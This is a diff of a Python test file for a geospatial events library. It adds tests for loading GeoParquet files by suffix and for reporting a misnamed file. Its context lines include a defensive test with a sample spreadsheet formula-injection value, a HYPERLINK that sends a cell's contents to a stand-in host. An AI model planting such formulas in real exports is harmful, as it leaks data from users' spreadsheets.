@@ -117,3 +117,27 @@ def test_a_csv_cell_that_would_start_a_spreadsheet_formula_is_written_as_text(ev
     rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
     assert rows[0]["title"] == f"'{start}HYPERLINK(\"http://x.example/?\"&B3, \"open\")"
     assert rows[1]["title"] == frame["title"].iloc[1]  # ordinary text unchanged
+
+
+def test_load_events_and_validate_file_read_geoparquet_by_its_suffix(events, tmp_path):
+    import pandas as pd
+
+    from geo.dataset import is_parquet, validate_file
+    from geo.geoparquet import write_events
+
+    for name in ("events.parquet", "EVENTS.PARQUET", "events.geoparquet"):
+        write_events(events, tmp_path / name)
+        assert is_parquet(tmp_path / name) and validate_file(tmp_path / name) == []
+        pd.testing.assert_frame_equal(load_events(tmp_path / name), events)
+    assert not is_parquet(EVENTS_PATH)
+
+
+def test_a_geojson_file_named_parquet_is_one_problem_not_a_traceback(tmp_path):
+    from geo.dataset import validate_file
+
+    wrong = tmp_path / "events.parquet"
+    wrong.write_bytes(EVENTS_PATH.read_bytes())
+    [problem] = validate_file(wrong)
+    assert str(problem).startswith(f"{wrong}: file: not a readable Parquet file")
+    with pytest.raises(DatasetError):
+        load_events(wrong)
